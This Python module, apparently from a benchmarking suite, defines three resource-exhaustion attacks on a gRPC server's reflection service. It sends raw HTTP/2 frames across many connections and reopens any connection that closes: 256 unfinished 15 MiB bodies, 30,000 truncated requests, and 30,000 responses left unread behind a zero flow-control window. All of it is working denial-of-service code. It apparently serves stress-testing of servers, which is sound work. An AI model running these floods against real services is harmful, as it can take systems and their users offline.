"""Reflection, whose streams have several requests."""

import asyncio
import contextlib
from collections.abc import Awaitable, Callable

from grpc_reflection.v1alpha.reflection_pb2 import ServerReflectionRequest

from bench.attacks.attack import Attack, Target
from bench.attacks.wire import END_HEADERS, HEADERS, Wire, call, data_frames, frame, message, wire

HEAD = call("/grpc.reflection.v1.ServerReflection/ServerReflectionInfo")
LONG_ANSWER = ServerReflectionRequest(file_containing_symbol="opencode.message.MessageService").SerializeToString()
BROKEN = LONG_ANSWER[:-1]

CONNECTIONS, STREAMS = 30, 1_000
LARGE_CONNECTIONS, LARGE_STREAMS, LARGE_BYTES = 8, 32, 15 * 2**20

_NO_WINDOW = (4).to_bytes(2, "big") + bytes(4)
"""Settings: the server may send nothing on a stream."""


async def _each(target: Target, count: int, attack: Callable[[Wire], Awaitable[None]], settings: bytes = b"") -> None:
    """Runs an attack on so many connections, and on a new one whenever one is closed."""

    async def again() -> None:
        while True:
            with contextlib.suppress(ConnectionError):
                async with wire(target.host_and_port(), settings) as one:
                    await attack(one)
                    while not one.is_closed:
                        await asyncio.sleep(0.05)
            await asyncio.sleep(0.05)

    await asyncio.gather(*(again() for _ in range(count)))


async def _ask(one: Wire, request: bytes) -> None:
    for stream in range(1, 2 * STREAMS, 2):
        await one.send(frame(HEADERS, END_HEADERS, stream, HEAD) + data_frames(stream, message(request)))


async def _unfinished(target: Target) -> None:
    body = message(b"\xff" * LARGE_BYTES)[:-1]

    async def send(one: Wire) -> None:
        for stream in range(1, 2 * LARGE_STREAMS, 2):
            await one.send(frame(HEADERS, END_HEADERS, stream, HEAD))
        sending = (one.send_body(stream, body) for stream in range(1, 2 * LARGE_STREAMS, 2))
        await asyncio.gather(*sending, return_exceptions=True)

    await _each(target, LARGE_CONNECTIONS, send)


async def _broken(target: Target) -> None:
    await _each(target, CONNECTIONS, lambda one: _ask(one, BROKEN))


async def _unread(target: Target) -> None:
    await _each(target, CONNECTIONS, lambda one: _ask(one, LONG_ANSWER), _NO_WINDOW)


ATTACKS = (
    Attack("unfinished_reflection", "256 requests of 15 MiB without their last byte", _unfinished),
    Attack("broken_reflection", "30,000 requests that are none", _broken),
    Attack("unread_reflection", "30,000 answers of 32 KB that nobody reads", _unread),
)
